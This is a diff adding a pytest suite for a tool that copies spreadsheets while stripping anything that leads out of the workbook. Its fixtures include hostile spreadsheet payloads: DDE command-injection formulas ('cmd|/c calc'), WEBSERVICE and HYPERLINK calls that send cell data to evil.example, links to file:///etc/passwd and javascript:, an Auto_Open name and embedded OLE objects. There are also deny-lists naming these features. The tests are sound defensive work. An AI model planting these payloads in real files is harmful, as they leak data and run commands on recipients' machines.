@@ -1,0 +1,550 @@
+"""The copy of an office's workbook: nothing in it leads out, runs or fetches, and what is harmless is as it was."""
+
+from __future__ import annotations
+
+import io
+import posixpath
+import re
+import time
+import tracemalloc
+import zipfile
+from collections.abc import Iterator
+from typing import Any
+
+import polars as pl
+import pytest
+from lxml import etree
+from office_workbooks import CELLS, MAIN, OFFICE, STYLES, Office, formula
+from openpyxl import Workbook, load_workbook
+from python_calamine import CalamineWorkbook
+
+from sdmxmig.intake.archives import open_zip
+from sdmxmig.model.artefacts import Text
+from sdmxmig.model.findings import Finding, Findings
+from sdmxmig.outputs.marked_workbook import FILL, mark
+from sdmxmig.outputs.office_copy.formulas import FUNCTIONS, is_range, stays_within
+from sdmxmig.places import Place
+from sdmxmig.tables import read
+
+NAME = "a.xlsx"
+PARTS = re.compile(
+    r"\[Content_Types\]\.xml|_rels/\.rels|xl/workbook\.xml|xl/_rels/workbook\.xml\.rels|xl/styles\.xml"
+    r"|xl/theme/theme1\.xml|xl/sharedStrings\.xml|xl/worksheets/(_rels/)?sheet\d+\.xml(\.rels)?"
+    r"|xl/comments/sheet\d+\.xml|xl/drawings/sheet\d+\.vml"
+)
+KINDS = {
+    *("officeDocument", "worksheet", "styles", "theme", "sharedStrings", "comments", "vmlDrawing"),
+}
+REACHING = {
+    *(
+        "externalReferences",
+        "externalReference",
+        "ddeLink",
+        "oleLink",
+        "oleObjects",
+        "oleObject",
+        "controls",
+        "control",
+    ),
+    *("drawing", "picture", "legacyDrawingHF", "tableParts", "extLst", "webPublishItems", "customProperties"),
+    *("pivotCaches", "connections", "queryTable", "fileRecoveryPr", "functionGroups", "dialogsheet", "macrosheet"),
+    *("imagedata", "fill/@src", "AlternateContent", "customSheetViews", "smartTags", "webPublishing", "volatileTypes"),
+}
+OUT = re.compile(r"\[|\||://|\\\\|'[^']*[\[/\\][^']*'!")
+"""Signs of a formula that leaves the workbook, as this test sees it."""
+FAR = re.compile(
+    r"(?i)\b(hyperlink|webservice|indirect|rtd|call|register|exec|dde|image|import\w+|filterxml|cube\w+)\("
+)
+
+
+def finding(cell: str, severity: str = "error", sheet: str = "Data") -> Finding:
+    return Finding("R", "1", severity, 1, "DF", Text.of(en="said"), Text(), place=Place(NAME, sheet, cell))
+
+
+def copied(content: bytes, *findings: Finding) -> bytes:
+    return mark(NAME, content, Findings(findings or (finding("B2"),)))
+
+
+def members(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {member: archive.read(member) for member in archive.namelist()}
+
+
+def elements(part: bytes) -> Iterator[tuple[str, Any]]:
+    for element in etree.fromstring(part).iter():
+        if isinstance(element.tag, str):
+            yield etree.QName(element).localname, element
+
+
+def judged(content: bytes) -> Workbook:
+    """The copy as a second reader sees it, after a look at every part of it."""
+    parts = members(content)
+    for member, part in parts.items():
+        assert PARTS.fullmatch(member), member
+        assert b"<!" not in part, member
+        names = [name for name, _ in elements(part)]
+        assert not REACHING & set(names), member
+        if member.endswith(".rels"):
+            folder = posixpath.dirname(posixpath.dirname(member))
+            for _, link in list(elements(part))[1:]:
+                assert link.get("TargetMode") is None
+                assert link.get("Type").rpartition("/")[2] in KINDS
+                assert posixpath.normpath(posixpath.join(folder, link.get("Target"))) in parts
+        for name, element in elements(part):
+            if name in ("f", "formula", "formula1", "formula2", "definedName"):
+                assert not OUT.search(re.sub(r'"[^"]*"', "", element.text or "")), element.text
+                assert not FAR.search(element.text or ""), element.text
+            if name == "hyperlink":
+                assert member == "xl/worksheets/sheet1.xml"
+                assert set(element.attrib) <= {"ref", "location", "display"}
+                assert re.fullmatch(r"'[^\[\]/\\]+'![A-Z]+\d+", element.get("location"))
+            if name in ("c", "cell"):
+                assert set(element.attrib) <= {"r", "s", "t", "ph"}, dict(element.attrib)
+            assert not [one for one in element.attrib if one.startswith(f"{{{OFFICE}}}") and not one.endswith("}id")]
+    kinds = dict.fromkeys(one.get("ContentType") for _, one in elements(parts["[Content_Types].xml"]))
+    assert not [kind for kind in kinds if kind and "macro" in kind.lower()]
+    CalamineWorkbook.from_filelike(io.BytesIO(content))
+    return load_workbook(io.BytesIO(content))
+
+
+def said(book: Workbook) -> str:
+    """What the first sheet says above the table."""
+    return "\n".join(str(line[0]) for line in book.worksheets[0].iter_rows(max_row=9, values_only=True) if line[0])
+
+
+def link(kind: str, target: str) -> dict[str, Any]:
+    """A link from a cell to somewhere."""
+    return {
+        "behind": '<hyperlinks><hyperlink ref="A1" r:id="rId1" tooltip="x"/></hyperlinks>',
+        "sheet_links": ((kind, target, True),),
+    }
+
+
+SHOWN, SOURCES = "Pictures, charts, macros", "Data connections, queries"
+LINKS, FORMULAS = "Links of cells (1) are not", "Formulas that may reach out of the workbook (1)"
+HOSTILE: dict[str, tuple[Office, str]] = {
+    "a link to a script": (Office(**link("hyperlink", "javascript:alert(1)")), LINKS),
+    "a link to a file": (Office(**link("hyperlink", "file:///etc/passwd")), LINKS),
+    "a link to a share": (Office(**link("hyperlink", r"\\evil\share\x.exe")), LINKS),
+    "a link to the web": (Office(**link("hyperlink", "https://evil.example/?x=1")), LINKS),
+    "a link within that leads out": (
+        Office(behind='<hyperlinks><hyperlink ref="A1" location="\'[http://e/x.xlsx]S\'!A1"/></hyperlinks>'),
+        LINKS,
+    ),
+    "HYPERLINK": (
+        Office(rows=formula("HYPERLINK(&quot;https://evil.example/&quot;&amp;A2,&quot;Total&quot;)")),
+        FORMULAS,
+    ),
+    "WEBSERVICE": (Office(rows=formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)")), FORMULAS),
+    "IMAGE": (Office(rows=formula("_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)")), FORMULAS),
+    "INDIRECT": (Office(rows=formula("INDIRECT(&quot;'[x.xlsx]S'!A1&quot;)")), FORMULAS),
+    "a program": (Office(rows=formula("cmd|&apos;/c calc&apos;!A0")), FORMULAS),
+    "a program by reference": (Office(rows=formula("cmd|&#39;/c calc&#39;!A0")), FORMULAS),
+    "another file": (Office(rows=formula("[1]Sheet1!A1")), FORMULAS),
+    "another file by its path": (Office(rows=formula(r"'\\evil\share\[x.xlsx]S'!A1")), FORMULAS),
+    "another file by its name": (Office(rows=formula("'http://evil.example/x.xlsx'!Total")), FORMULAS),
+    "a function of an add-in": (Office(rows=formula("EVIL.RUN(A2)")), FORMULAS),
+    "a function in small letters": (Office(rows=formula("hyperlink(A2)")), FORMULAS),
+    "a formula with blanks": (Office(rows=formula("SUM( HYPERLINK (A2))")), FORMULAS),
+    "a name that is not there": (Office(rows=formula("EvilName+1")), FORMULAS),
+    "a what-if table": (
+        Office(rows=formula("", more=' t="dataTable" ref="C2:C3" dt2D="1" r1="A1" r2="[1]S!A1"')),
+        FORMULAS,
+    ),
+    "a link to another workbook": (
+        Office(
+            rows=formula("[1]Sheet1!A1"),
+            book='<externalReferences><externalReference r:id="rId3"/></externalReferences>',
+            links=(("externalLink", "externalLinks/externalLink1.xml", False),),
+            parts={
+                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" '
+                'ddeTopic="/c calc"/></externalLink>',
+            },
+        ),
+        SOURCES,
+    ),
+    "a connection": (
+        Office(
+            links=(("connections", "connections.xml", False),),
+            parts={
+                "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="http://e"/>'
+                "</connection></connections>"
+            },
+        ),
+        SOURCES,
+    ),
+    "embedded data": (Office(parts={"customXml/item1.xml": "<x/>"}), SOURCES),
+    "a name that leads out": (
+        Office(book='<definedNames><definedName name="x">[1]S!$A$1</definedName></definedNames>'),
+        SOURCES,
+    ),
+    "a name that calls": (
+        Office(book='<definedNames><definedName name="x">WEBSERVICE("http://e")</definedName></definedNames>'),
+        SOURCES,
+    ),
+    "a name that programs run": (
+        Office(book='<definedNames><definedName name="Auto_Open" hidden="1">Data!$A$1</definedName></definedNames>'),
+        SOURCES,
+    ),
+    "macros": (
+        Office(
+            links=(("vbaProject", "vbaProject.bin", False),),
+            parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
+            main="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+        ),
+        SHOWN,
+    ),
+    "a sheet of old macros": (
+        Office(
+            before_sheets="",
+            links=(("xlMacrosheet", "macrosheets/sheet1.xml", False),),
+            parts={"xl/macrosheets/sheet1.xml": f'<macrosheet xmlns="{MAIN}"><sheetData/></macrosheet>'},
+        ),
+        SHOWN,
+    ),
+    "an embedded object": (
+        Office(
+            behind='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>',
+            sheet_links=(("oleObject", "../embeddings/o.bin", False),),
+            parts={"xl/embeddings/o.bin": b"MZ"},
+        ),
+        SHOWN,
+    ),
+    "an object that is linked": (
+        Office(
+            behind='<oleObjects><oleObject link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" r:id="rId1"/></oleObjects>',
+            sheet_links=(("oleObject", "file:///x", True),),
+            parts={"xl/embeddings/o.bin": b"MZ"},
+        ),
+        SHOWN,
+    ),
+    "a picture from the web": (
+        Office(
+            behind='<drawing r:id="rId1"/>',
+            sheet_links=(("drawing", "../drawings/drawing1.xml", False),),
+            parts={"xl/drawings/drawing1.xml": "<x/>", "xl/drawings/_rels/drawing1.xml.rels": "<x/>"},
+        ),
+        SHOWN,
+    ),
+    "a picture behind the cells": (
+        Office(
+            behind='<picture r:id="rId1"/>',
+            sheet_links=(("image", "http://evil.example/a.png", True),),
+            parts={"xl/media/a.png": b"x"},
+        ),
+        SHOWN,
+    ),
+    "a control": (
+        Office(
+            behind='<controls><control shapeId="1" r:id="rId1" name="x"/></controls>',
+            sheet_links=(("control", "../activeX/activeX1.xml", False),),
+            parts={"xl/activeX/activeX1.xml": "<x/>"},
+        ),
+        SHOWN,
+    ),
+    "an extension": (
+        Office(
+            behind='<extLst><ext uri="{x}" xmlns:x="y"><x:formula>WEBSERVICE("http://e")</x:formula></ext></extLst>',
+            parts={"xl/media/a.png": b"x"},
+        ),
+        SHOWN,
+    ),
+    "a rule that calls": (
+        Office(
+            behind='<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1">'
+            "<formula>WEBSERVICE(A2)=1</formula></cfRule></conditionalFormatting>"
+        ),
+        FORMULAS,
+    ),
+    "a list from elsewhere": (
+        Office(
+            behind='<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>[1]S!$A$1:$A$9'
+            "</formula1></dataValidation></dataValidations>"
+        ),
+        FORMULAS,
+    ),
+    "values of other kinds": (
+        Office(rows=CELLS.replace('<c r="B3">', '<c r="B3" cm="1" vm="7">'), parts={"xl/richData/x.xml": "<x/>"}),
+        SHOWN,
+    ),
+    "a formula for many that calls": (
+        Office(
+            rows=formula("HYPERLINK(A2)", more=' t="shared" ref="C2:C3" si="0"').replace(
+                "<v>7</v></c></row>", '<v>7</v></c><c r="C3"><f t="shared" si="0"/><v>8</v></c></row>'
+            )
+        ),
+        "Formulas that may reach out of the workbook (2)",
+    ),
+}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_nothing_leads_out_and_the_first_sheet_says_what_is_gone(what: str) -> None:
+    office, sentence = HOSTILE[what]
+    book = judged(copied(office.content))
+    assert sentence in said(book)
+    sheet = book["Data"]
+    assert [[cell.value for cell in line[:2]] for line in sheet["A1:B3"]] == [["Year", "Men"], [2020, 5], [2021, 7]]
+    assert sheet["B2"].fill.fgColor.rgb == FILL["error"]
+    if "<f" in office.rows:
+        assert sheet["C2"].value == 42
+
+
+@pytest.mark.parametrize("language", ["en", "fr", "es", "ar", "ru", "zh"])
+def test_what_is_gone_is_said_in_the_language_of_the_office(language: str) -> None:
+    office = Office(rows=formula("HYPERLINK(A2)"), parts={"xl/vbaProject.bin": b"", "xl/connections.xml": "<x/>"})
+    book = load_workbook(io.BytesIO(mark(NAME, office.content, Findings((finding("B2"),)), language=language)))
+    lines = [line[0] for line in book.worksheets[0].iter_rows(min_row=3, max_row=5, values_only=True)]
+    assert len({str(line) for line in lines}) == 3
+    assert all(isinstance(line, str) and "{" not in line for line in lines)
+    assert language == "en" or not any("copy" in str(line) for line in lines)
+
+
+HARMLESS = [
+    "SUM(B2:B3)",
+    "SUM(B2:B3)/COUNT(B2:B3)*100",
+    'IF(B2&gt;B3,"more","less")',
+    "IFERROR(ROUND(B2/B3,2),0)",
+    "VLOOKUP(A2,$A$1:$B$3,2,FALSE)",
+    "'Other sheet'!A1+Data!B2",
+    "SUMIFS(B:B,A:A,&quot;&gt;=2020&quot;)",
+    "_xlfn.TEXTJOIN(&quot;; &quot;,TRUE,A1:A3)",
+    'TEXT(B2,"0.0%")&amp;" | [x] http://example.org"',
+    "Figures*2",
+    "-B2+(B3^2)%",
+    "INDEX({1,2;3,4},1,2)",
+    "1:1 A:A",
+    "IF(ISNA(B2),#N/A,1E-3)",
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_formulas_that_only_calculate_stay(text: str) -> None:
+    names = '<definedNames><definedName name="Figures">Data!$B$2:$B$3</definedName></definedNames>'
+    office = Office(rows=formula(text), book=names, more_sheets={"Other sheet": CELLS})
+    book = judged(copied(office.content))
+    assert book["Data"]["C2"].value == "=" + etree.fromstring(f"<f>{text}</f>").text
+    assert "reach out" not in said(book)
+
+
+def test_formulas_for_many_cells_stay() -> None:
+    rows = formula("SUM(B2:B3)", more=' t="shared" ref="C2:C3" si="3"').replace(
+        "<v>7</v></c></row>",
+        '<v>7</v></c><c r="C3"><f t="shared" si="3"/><v>8</v></c>'
+        '<c r="D3"><f t="array" ref="D3">SUM(B2:B3*2)</f><v>24</v></c></row>',
+    )
+    sheet = judged(copied(Office(rows=rows).content))["Data"]
+    assert sheet["C3"].data_type == "f"
+    assert sheet["D3"].value.text == "=SUM(B2:B3*2)"
+
+
+LOOKS = Office(
+    rows=CELLS.replace('<row r="1">', '<row r="1" ht="33" customHeight="1">').replace('<c r="B3">', '<c r="B3" s="1">'),
+    before='<sheetPr codeName="x"><tabColor rgb="FF00FF00"/></sheetPr><sheetViews><sheetView tabSelected="1" '
+    'workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/></sheetView>'
+    '</sheetViews><sheetFormatPr defaultRowHeight="15"/><cols><col min="1" max="1" width="33" customWidth="1"/>'
+    "</cols>",
+    behind='<sheetProtection sheet="1"/><autoFilter ref="A1:B3"/><mergeCells count="1"><mergeCell ref="A5:B6"/>'
+    "</mergeCells>"
+    '<conditionalFormatting sqref="B2"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan">'
+    '<formula>4</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" '
+    'sqref="B2"><formula1>$A$2:$A$3</formula1></dataValidation></dataValidations><printOptions gridLines="1"/>'
+    '<pageMargins left="1" right="1" top="1" bottom="1" header="0.3" footer="0.3"/><pageSetup orientation="landscape" '
+    'r:id="rId9"/><headerFooter><oddHeader>&amp;CHead</oddHeader></headerFooter><legacyDrawing r:id="rId2"/>',
+    book='<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">Data!$A$1:$B$3</definedName>'
+    '<definedName name="Figures">Data!$B$2:$B$3</definedName></definedNames>',
+    before_sheets='<workbookPr date1904="1"/>',
+    more_sheets={"Hidden": CELLS},
+    sheet_links=(("comments", "../comments1.xml", False),),
+    parts={
+        "xl/comments1.xml": f'<comments xmlns="{MAIN}"><authors><author>Office</author></authors><commentList>'
+        '<comment ref="B2" authorId="0"><text><r><t>Own </t></r><r><t>note</t></r></text></comment>'
+        '<comment ref="A3" authorId="0"><text><t>see file:///x</t></text></comment></commentList></comments>'
+    },
+)
+
+
+def test_the_looks_of_the_workbook_stay() -> None:
+    book = judged(copied(LOOKS.content))
+    sheet = book["Data"]
+    assert (sheet["B3"].font.name, sheet["B3"].font.size, sheet["B3"].number_format) == ("Arial", 18, "0.000")
+    assert sheet["B3"].border.left.style == "thin"
+    assert sheet.column_dimensions["A"].width == 33
+    assert sheet.row_dimensions[1].height == 33
+    assert sheet.freeze_panes == "A2"
+    assert sheet.sheet_properties.tabColor.rgb == "FF00FF00"
+    assert sheet.protection.sheet
+    assert sheet.auto_filter.ref == "A1:B3"
+    assert [str(one) for one in sheet.merged_cells.ranges] == ["A5:B6"]
+    assert [rule.formula for rules in sheet.conditional_formatting for rule in rules.rules] == [["4"]]
+    assert sheet.data_validations.dataValidation[0].formula1 == "$A$2:$A$3"
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.oddHeader.center.text == "Head"
+    assert sheet.print_area == "'Data'!$A$1:$B$3"
+    assert book.defined_names["Figures"].attr_text == "Data!$B$2:$B$3"
+    assert book.epoch.year == 1904
+    assert sheet["B2"].comment.text == "Own note\n\nR – said"
+    assert (sheet["A3"].comment.text, sheet["A3"].comment.author) == ("see file:///x", "Office")
+    assert not sheet.sheet_view.tabSelected
+    assert len(said(book).splitlines()) == said(judged(copied(Office().content))).count("\n") + 1
+
+
+def test_a_mark_keeps_font_and_format_of_its_cell() -> None:
+    sheet = judged(copied(LOOKS.content, finding("B3"), finding("C3", "warning"), finding("D9", "information")))["Data"]
+    assert (sheet["B3"].font.size, sheet["B3"].number_format, sheet["B3"].fill.fgColor.rgb) == (
+        18,
+        "0.000",
+        FILL["error"],
+    )
+    assert sheet["C3"].fill.fgColor.rgb == FILL["warning"]
+    assert sheet["D9"].fill.fgColor.rgb == FILL["information"]
+
+
+def worksheet(rows: str) -> str:
+    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
+
+
+SPELT = {
+    "as programs do": worksheet(CELLS),
+    "with blanks": worksheet(CELLS.replace("><", ">\n <")),
+    "without names": worksheet(re.sub(r' r="[A-Z]?\d"', "", CELLS)),
+    "with a prefix": re.sub(r"<(/?)", r"<\1x:", worksheet(CELLS)).replace("xmlns=", "xmlns:x="),
+    "with comments": worksheet(CELLS.replace("<row", "<!-- </row> --><row")).replace("<!-- </row> -->", "<!-- x -->"),
+    "with other attributes": worksheet(CELLS.replace('<c r="A2">', '<c x:y="1" cm="1" s="0" r="A2" xmlns:x="z">')),
+    "with CDATA": worksheet(CELLS.replace("<v>5</v>", "<v><![CDATA[5]]></v>")),
+    "with references": worksheet(CELLS.replace("Men", "M&#101;n").replace("<v>5</v>", "<v>&#53;</v>")),
+    "with rich text": worksheet(CELLS.replace("<t>Men</t>", "<r><rPr><b/></rPr><t>M</t></r><r><t>en</t></r>")),
+    "with an instruction": worksheet(CELLS.replace("</row>", "<?x y?></row>")),
+    "with quotes": worksheet(CELLS).replace('"', "'"),
+    "with a declaration": f'\ufeff<?xml version="1.0" encoding="utf-8"?>{worksheet(CELLS)}',
+    "as strict": worksheet(CELLS).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
+    "with stray elements": worksheet(CELLS.replace("<row", '<y xmlns="z"><row/></y><row')),
+    "in another encoding": f'<?xml version="1.0" encoding="iso-8859-1"?>{worksheet(CELLS)}',
+}
+
+
+@pytest.mark.parametrize("how", SPELT)
+def test_a_sheet_is_carried_over_however_it_is_spelt(how: str) -> None:
+    content = Office(sheet=SPELT[how]).content
+    findings = [finding("B2"), finding("A3", "warning"), finding("D2"), finding("B9"), finding("B1", "information")]
+    sheet = judged(copied(content, *findings))["Data"]
+    assert [[cell.value for cell in line[:2]] for line in sheet["A1:B3"]] == [["Year", "Men"], [2020, 5], [2021, 7]]
+    colours = {
+        cell.coordinate: cell.fill.fgColor.rgb for line in sheet["A1:D9"] for cell in line if cell.fill.fill_type
+    }
+    error, warning, information = FILL.values()
+    assert colours == {"B2": error, "A3": warning, "D2": error, "B9": error, "B1": information}
+
+
+BROKEN = {
+    "styles that are none": Office(styles="<x/>"),
+    "styles without fonts": Office(styles=f'<styleSheet xmlns="{MAIN}"><fonts/><cellXfs><xf/></cellXfs></styleSheet>'),
+    "a style beyond the last": Office(rows=CELLS.replace('<c r="B2">', '<c r="B2" s="99999">')),
+    "a font that is not there": Office(styles=STYLES.replace('fontId="1"', 'fontId="x"')),
+    "a date in its properties that is none": Office(
+        package_links=(("core-properties", "docProps/core.xml", False),),
+        parts={"docProps/core.xml": "<x>not a date</x>"},
+    ),
+    "parts that are no XML": Office(parts={"docProps/app.xml": "<x", "xl/media/a.xml": "<x"}),
+    "a name without cells": Office(book='<definedNames><definedName name=""/></definedNames>'),
+    "a sheet that is not there": Office(links=(("worksheet", "worksheets/gone.xml", False),)),
+}
+
+
+@pytest.mark.parametrize("what", BROKEN)
+def test_a_workbook_that_is_broken_in_parts_is_still_marked(what: str) -> None:
+    sheet = judged(copied(BROKEN[what].content))["Data"]
+    assert sheet["B2"].value == 5
+    assert sheet["B2"].fill.fgColor.rgb == FILL["error"]
+
+
+@pytest.mark.parametrize(
+    ("name", "title"),
+    [
+        ("[http://evil.example/x.xlsx]S", " http   evil.example x.xlsx S"),
+        ("'x'", " x "),
+        ("a/b", "a b"),
+        ("é 中", "é 中"),
+    ],
+)
+def test_a_sheet_is_called_by_what_leads_nowhere(name: str, title: str) -> None:
+    content = Office(name=name).content
+    book = judged(copied(content, finding("B2", sheet=name)))
+    assert book.sheetnames[1] == title
+    assert book[title]["B2"].comment
+
+
+def test_a_sheet_of_many_cells_passes_through() -> None:
+    rows = (
+        "".join(
+            f'<row r="{row}" spans="1:6">'
+            + "".join(f'<c r="{letter}{row}" s="1"><v>{row * 7}</v></c>' for letter in "ABCDEF")
+            for row in range(1, 40_001)
+        ).replace("<row", "</row><row")[len("</row>") :]
+        + "</row>"
+    )
+    content = Office(rows=rows).content
+    findings = [finding(f"C{row}") for row in range(1, 40_001, 400)]
+    tracemalloc.start()
+    result = copied(content, *findings)
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert len(rows) > 8_000_000
+    assert peak < 24 << 20  # the rows are never held as a whole, let alone as objects
+    before, after = (read(NAME, one)[-1].cells for one in (content, result))
+    assert before.select("row", "column", "text", "kind").equals(after.select("row", "column", "text", "kind"))
+    assert sum(cell.fill.fill_type == "solid" for (cell,) in judged_column(result)) == 100
+
+
+def judged_column(content: bytes) -> list[tuple[Any, ...]]:
+    return list(load_workbook(io.BytesIO(content))["Data"]["C1:C40000"])
+
+
+def test_thousands_of_sheets_are_not_too_many() -> None:
+    office = Office(more_sheets={f"Sheet {number}": CELLS for number in range(2_100)})
+    assert len(open_zip(office.content, NAME).members) > 2_000
+    result = copied(office.content, finding("B2", sheet="Sheet 2000"))
+    parts = members(result)
+    assert len([one for one in parts if one.startswith("xl/worksheets/sheet")]) == 2_102
+    assert b"R \xe2\x80\x93 said" in parts["xl/comments/sheet2003.xml"]
+
+
+def test_beyond_a_number_of_cells_only_colours_are_seen(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("sdmxmig.outputs.office_copy.package.MOST_REMARKS", 2)
+    book = judged(copied(Office().content, *(finding(f"C{row}") for row in range(1, 6))))
+    assert "Comments on 3 further cells" in said(book)
+    assert [bool(cell.comment) for (cell,) in book["Data"]["C1:C5"]] == [True, True, False, False, False]
+    assert all(cell.fill.fill_type == "solid" for (cell,) in book["Data"]["C1:C5"])
+
+
+@pytest.mark.parametrize("text", ["a\nb", "_x0041_", "x" * 40_000, "\x01", "=1+1", "<b>&amp;", "007", "1" * 30, "-0"])
+def test_texts_of_other_files_stay_texts(text: str) -> None:
+    quoted = '"' + text.replace('"', '""') + '"'
+    result = mark("a.csv", f"Year,Men\n2020,{quoted}\n".encode(), Findings((finding("B2"),)))
+    judged(result)
+    seen = read(NAME, result)[1].text(2, 2)
+    assert seen == (text.replace("\x01", "�") if len(text) < 32_000 else text[:31_999] + "…")
+    style = load_workbook(io.BytesIO(result)).worksheets[1]["B2"]
+    assert style.data_type == "s"
+    assert bool(style.quotePrefix) == (text[0] in "=-")
+
+
+def test_the_list_of_functions_holds_none_that_reaches_out() -> None:
+    assert not {"HYPERLINK", "WEBSERVICE", "INDIRECT", "RTD", "CALL", "IMAGE", "CELL", "INFO", "CUBEVALUE"} & FUNCTIONS
+    assert all(re.fullmatch(r"[A-Z][A-Z0-9.]*", name) for name in FUNCTIONS)
+
+
+@pytest.mark.parametrize(
+    "text", ["'" * 8000, "(" * 8000, '"' * 8001, "SUM(" * 2000, "a." * 4000, "1e" * 4000, "$A" * 4000]
+)
+def test_long_formulas_take_no_time(text: str) -> None:
+    begin = time.process_time()
+    assert is_range(text) <= stays_within(text, ())
+    assert time.process_time() - begin < 1
+
+
+def test_a_copy_of_a_copy_says_the_same(tmp_path: Any) -> None:
+    once = copied(Office(rows=formula("SUM(B2:B3)")).content)
+    again = read(NAME, copied(once))
+    assert [table.sheet for table in again] == ["Findings 2", "Findings", "Data"]
+    assert again[2].cells.filter(pl.col("text") == "42").height == 1
